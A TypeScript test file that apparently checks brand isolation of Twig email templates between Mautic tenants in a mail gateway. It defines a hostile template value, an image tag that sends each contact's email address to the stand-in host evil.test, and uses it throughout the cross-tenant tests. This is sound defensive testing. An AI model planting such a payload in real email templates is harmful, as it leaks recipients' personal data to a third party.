import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import { addEmail, addTemplate, addTransport, uniqueName } from '../../../test/callers.ts'
import { listenAsGateway, type OpenGateway } from '../../../test/gateway/open-gateway.ts'
import { addBrand, addMautic, submitMessage, type TestMautic } from '../../../test/mautics.ts'
import { onEachDatabase } from '../../../test/on-each-database.ts'
import type { TestBody } from '../../../test/test-app.ts'

const hostile = '<img src="https://evil.test/?{{ contact.email }}">'

/** Administrators of two Mautics, at their addresses; one of them is hostile and knows the ids of all templates. */
onEachDatabase('an administrator of one Mautic', { isOwn: true }, (shared) => {
  let gateway: OpenGateway
  let victim: TestMautic
  let evil: TestMautic
  /** The template of the brand of the victim, and one that all brands share. */
  let foreign: TestBody
  let common: TestBody

  before(async () => {
    const { service } = shared
    gateway = await listenAsGateway(service)
    const { id: transportId } = await addTransport(service, { mailerDsn: 'inbox://local' })
    victim = await addMautic(service, { transportId })
    evil = await addMautic(service, { transportId })
    const name = uniqueName('secret template')
    foreign = await addTemplate(service, { name, template: 'top-secret', brand: victim.brand })
    common = await addTemplate(service, { template: 'shared text' })
  })

  const askAs = (mautic: TestMautic, method: string, path: string, body?: unknown) =>
    gateway.askAs(mautic, method, `twigTemplates${path}`, body)
  const ask = async (method: string, path: string, body?: unknown) => {
    const answer = await askAs(evil, method, path, body)
    for (const secret of ['top-secret', foreign.name])
      assert.equal(answer.text.includes(secret), false, `${method} ${path}: ${answer.text}`)
    return answer
  }
  const templateOf = async (id: number) =>
    (await shared.ask('GET', `/api/twigTemplates/${id}`)).body.twigTemplate
  /** What a message of a Mautic with this text is sent as; undefined if it is refused. */
  const sentAs = async (mautic: TestMautic, text: string) => {
    const subject = uniqueName('subject')
    const message = `Subject: ${subject}\n\n${text}`
    const [reply] = await submitMessage(shared.service, mautic, {
      ...{ to: 'ann@rcpt.test', text: message },
    })
    if (reply !== '250 2.0.0') return undefined
    const { body } = await shared.ask('GET', '/api/inbox?limit=100')
    const [{ id }] = body.messages.filter((each: TestBody) => each.subject === subject)
    return (await shared.ask('GET', `/api/inbox/${id}`)).body.message.text.trim()
  }
  const addOwn = async (mautic: TestMautic, values: object) => {
    const { status, text, body } = await askAs(mautic, 'POST', '/new', values)
    assert.equal(status, 201, text)
    return body.twigTemplate
  }

  test('neither sees, changes, deletes nor renders a template of another brand', async () => {
    const { id } = foreign
    const asked: [string, string, unknown?][] = [
      ['GET', `/${id}`],
      ['PATCH', `/${id}/edit`, { template: hostile }],
      ['DELETE', `/${id}/delete`],
      ['GET', `/${id}/variables`],
      ['GET', `/${id}/versions`],
      ['GET', `/${id}/versions/1`],
      ['POST', `/${id}/versions/1/restore`, {}],
      ['POST', '/render', { id }],
      ['POST', '/lint', { id }],
      ['POST', '/send/test', { id, to: 'eve@evil.test' }],
    ]
    for (const each of asked) assert.equal((await ask(...each)).status, 404, each.join(' '))
    const edits = [{ id, template: hostile }]
    assert.deepEqual((await ask('PATCH', '/batch/edit', edits)).body.statusCodes, [404])
    await ask('DELETE', `/batch/delete?ids=${id}`)
    // As for any missing id, a new record is made under a new id.
    const replaced = await ask('PUT', `/${id}/edit`, { name: 'x', template: hostile })
    assert.notEqual(replaced.body.twigTemplate.id, id)
    for (const query of ['', `?search=ids:${id}`, `?search=${encodeURIComponent(foreign.name)}`]) {
      const { body } = await askAs(evil, 'GET', query)
      const isShown = body.twigTemplates.some((each: TestBody) => each.id === id)
      assert.equal(isShown, false)
    }
    const kept = await templateOf(id)
    assert.deepEqual([kept.template, kept.brand], ['top-secret', victim.brand])
    assert.equal(await sentAs(victim, `{twigtemplate=${id}}`), 'top-secret')
  })

  test('views the templates of no brand, and may not change or delete them', async () => {
    const { id } = common
    const { status, body } = await ask('GET', `/${id}`)
    assert.deepEqual([status, body.twigTemplate.template], [200, 'shared text'])
    const listed = await ask('GET', `?search=ids:${id}`)
    assert.equal(listed.body.twigTemplates[0].id, id)
    const asked: [string, string, unknown?][] = [
      ['PATCH', `/${id}/edit`, { template: hostile }],
      ['PUT', `/${id}/edit`, { name: 'x', template: hostile }],
      ['PATCH', `/${id}/edit`, { brand: evil.brand }],
      ['POST', `/${id}/versions/1/restore`, {}],
      ['DELETE', `/${id}/delete`],
    ]
    for (const each of asked) {
      const refused = await ask(...each)
      assert.equal(refused.status, 403, each.join(' '))
      assert.equal(
        refused.body.error,
        `Template ${id} belongs to no brand: all brands use it. Only who has all brands may change it, test it and delete it.`,
      )
    }
    const edits = [{ id, isPublished: false }]
    assert.deepEqual((await ask('PATCH', '/batch/edit', edits)).body.statusCodes, [403])
    await ask('DELETE', `/batch/delete?ids=${id}`)
    const kept = await templateOf(id)
    assert.deepEqual(
      [kept.template, kept.isPublished, kept.brand],
      ['shared text', true, undefined],
    )
    assert.equal(await sentAs(victim, `{twigtemplate=${id}}`), 'shared text')
  })

  test('creates, changes and deletes templates of the brand of its Mautic only', async () => {
    const { id, brand } = await addOwn(evil, { name: uniqueName('own'), template: 'one' })
    assert.equal(brand, evil.brand)
    const edited = await ask('PATCH', `/${id}/edit`, { template: 'two' })
    assert.deepEqual([edited.status, edited.body.twigTemplate.brand], [200, evil.brand])
    for (const [other, status] of [
      [victim.brand, 404],
      [999_999, 404],
      [null, 403],
    ]) {
      const created = await ask('POST', '/new', { name: 'x', template: 'x', brand: other })
      assert.equal(created.status, status, created.text)
      assert.equal((await ask('PATCH', `/${id}/edit`, { brand: other })).status, status)
    }
    assert.equal((await ask('POST', `/${id}/versions/1/restore`, {})).status, 200)
    assert.equal((await askAs(victim, 'GET', `/${id}`)).status, 404)
    assert.equal((await ask('DELETE', `/${id}/delete`)).status, 200)
  })

  test('takes over no name in templates of all, and has its own template of that name', async () => {
    const name = uniqueName('footer')
    const include = `{{ include("${name}") }}`
    const ofAll = await addTemplate(shared.service, { name, template: 'of all' })
    const header = await addTemplate(shared.service, { template: `(${include})` })
    const ownHeader = await addOwn(evil, { name: uniqueName('own'), template: `<${include}>` })
    const both = `{twigtemplate=${ownHeader.id}}{twigtemplate=${header.id}}{twigtemplate=${ofAll.id}}`
    assert.equal(await sentAs(evil, both), '<of all>(of all)of all')
    await addOwn(victim, { name, template: 'of the victim' })
    assert.equal(await sentAs(evil, both), '<of all>(of all)of all')
    const own = await addOwn(evil, { name, template: `own {{ include("id:${header.id}") }}` })
    assert.equal(await sentAs(evil, both), '<own (of all)>(of all)of all')
    const inOwn = `{{ include("id:${header.id}") }}${include}`
    const { body } = await ask('POST', '/render', { template: inOwn, context: {} })
    assert.equal(body.output, '(of all)own (of all)', body.error)
    assert.match(own.warnings[0].message, /The name means this one/)
  })

  test('renders own templates and those of no brand only, whatever includes them', async () => {
    const name = uniqueName('name')
    const include = `{{ include("${name}", ignore_missing = true) }}`
    const own = await addOwn(evil, { name, template: hostile })
    const includer = await addOwn(evil, { name: uniqueName('own'), template: `own ${include}` })
    const asOwn = await sentAs(evil, `{twigtemplate=${includer.id}}`)
    assert.equal(asOwn, 'own <img src="https://evil.test/?ann@rcpt.test">')
    assert.equal(
      await sentAs(victim, `[{twigtemplate=${includer.id}}{twigtemplate=${own.id}}]`),
      '[]',
    )
    // Neither another brand nor a log-in of all brands finds it by its name; nor does a shared template.
    const inVictim = await addOwn(victim, { name: uniqueName('own'), template: `[${include}]` })
    const inShared = await addTemplate(shared.service, { template: `[${include}]` })
    assert.equal(await sentAs(victim, `{twigtemplate=${inVictim.id}}`), '[]')
    const computes = `{% set n = "${name}" %}[{{ include(n, ignore_missing = true) }}]`
    const computing = await addTemplate(shared.service, { template: computes })
    for (const mautic of [evil, victim])
      for (const { id } of [inShared, computing])
        assert.equal(await sentAs(mautic, `{twigtemplate=${id}}`), '[]')
    // Its own template does, also in a message that asks for both.
    const both = await addOwn(evil, {
      ...{ name: uniqueName('own'), template: `{{ include("id:${inShared.id}") }}${include}` },
    })
    assert.match((await sentAs(evil, `{twigtemplate=${both.id}}`)) ?? '', /evil/)
    const computed = '{{ include(n, ignore_missing = true) }}'
    for (const template of [
      include,
      computed,
      `{{ include("id:${foreign.id}", ignore_missing = true) }}`,
    ]) {
      const context = { n: `id:${foreign.id}` }
      const { status, body } = await ask('POST', '/render', { template: `[${template}]`, context })
      const expected =
        template === include ? `[${hostile.replace('{{ contact.email }}', '')}]` : '[]'
      assert.deepEqual([status, body.output], [200, expected])
    }
    const rendered = await shared.ask('POST', '/api/twigTemplates/render', {
      ...{ template: `[${include}]`, context: {} },
    })
    assert.equal(rendered.body.output, '[]')
  })

  test('disturbs nothing by giving a template the name of a shared one', async () => {
    const name = uniqueName('footer')
    await addTemplate(shared.service, { name, template: 'the footer' })
    const taken = await addOwn(evil, { name, template: hostile })
    assert.match(taken.warnings[0].message, /^Two templates are named/)
    const template = `{{ include("${name}") }}`
    const includer = await addTemplate(shared.service, { template })
    assert.equal(includer.warnings, undefined)
    assert.equal(await sentAs(victim, `{twigtemplate=${includer.id}}`), 'the footer')
    const other = await addOwn(victim, { name: uniqueName('own'), template })
    assert.equal(other.warnings, undefined)
  })
})

onEachDatabase('an administrator of Mailyard', { isOwn: true }, (shared) => {
  test('gives templates to a brand and takes them back', async () => {
    const { service } = shared
    const brand = await addBrand(service)
    const { id } = await addTemplate(service, { brand })
    const edit = (values: object) => service.ask('PATCH', `/api/twigTemplates/${id}/edit`, values)
    assert.equal((await edit({ brand: null })).body.twigTemplate.brand, undefined)
    assert.equal((await edit({ brand })).body.twigTemplate.brand, brand)
    const missing = await edit({ brand: 999_999 })
    assert.deepEqual([missing.status, missing.body.error], [404, 'Brand not found: 999999'])
  })

  test('sends templates of a brand in its emails, and in no other, and finds no other use of them', async () => {
    const { service } = shared
    const brand = await addBrand(service)
    const { id, name } = await addTemplate(service, { template: 'of a brand', brand })
    const customHtml = `[{twigtemplate=${id}}{{ include("${name}", ignore_missing = true) }}]`
    const addUser = (of: number | null) =>
      addEmail(service, { customHtml, isTwig: true, brand: of })
    const own = await addUser(brand)
    const others = [await addUser(null), await addUser(await addBrand(service))]
    for (const email of [own, ...others]) {
      const preview = await service.ask('POST', '/api/emails/preview', { id: email.id })
      assert.match(preview.body.html, email === own ? /\[of a brandof a brand\]/ : /\[\]/)
    }
    const { body } = await service.ask('GET', `/api/twigTemplates/${id}/dependents`)
    assert.deepEqual(body.templates, [])
    assert.deepEqual(
      body.emails.map((each: TestBody) => each.id),
      [own.id],
    )
  })
})
